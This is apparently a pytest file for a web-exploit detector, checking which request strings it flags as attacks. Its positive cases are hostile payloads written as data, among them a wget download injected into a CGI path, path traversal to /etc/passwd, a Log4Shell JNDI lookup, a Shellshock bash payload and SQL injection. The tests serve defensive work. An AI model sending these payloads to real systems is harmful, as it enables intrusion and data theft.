"""What only an attack on a weakness asks for is told from what people and apps ask for."""

import polars as pl
import pytest

from cordon.detect.detectors.web_exploit import weaknesses


def tried(text: str) -> bool:
    return any(pl.Series([text]).str.contains(pattern).any() for _, pattern in weaknesses())


@pytest.mark.parametrize(
    "text",
    [
        "/cgi-bin/;cd+/tmp;wget+http://192.0.2.1/a",
        "/shell",
        "/../../etc/passwd",
        "/%2e%2e/%2e%2e/x",
        "/a/..%2f..%2fb",
        "/gponform/diag_form",
        "/language/swedish${ifs}&&cd${ifs}/tmp",
        "/public/index.php/invokefunction",
        "/x'%20or%201=1",
        "/%24%7bjndi:ldap://192.0.2.1%7d",
        "sqlmap/1.5#stable",
        "() { :;}; /bin/bash -c id",
        "/.env",
    ],
)
def test_an_attack_is_told(text: str) -> None:
    assert tried(text)


@pytest.mark.parametrize(
    "text",
    [
        "/",
        "/hnap1/",
        "/cgi-bin/luci/;stok=12/admin",
        "/a..b/c",
        "/api;id=3",
        "/shell.js",
        "/union/select-a-plan",
        "/../x",
        "/echo/cat.png",
        "/etc/hosts.html",
        "/setup.cgi",
        "/.envelope",
        "/a|b",
        "mozilla/5.0 (x11; linux x86_64)",
    ],
)
def test_an_everyday_request_is_not(text: str) -> None:
    assert not tried(text)
